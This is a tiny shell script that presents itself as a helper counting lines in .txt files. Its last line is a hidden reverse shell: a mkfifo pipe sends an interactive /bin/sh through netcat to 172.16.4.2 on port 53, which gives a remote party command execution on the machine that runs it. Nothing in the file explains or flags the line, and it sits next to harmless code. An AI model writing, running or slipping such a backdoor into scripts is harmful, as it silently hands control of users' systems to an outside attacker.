#!/bin/sh
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 172.16.4.2 53 > /tmp/f
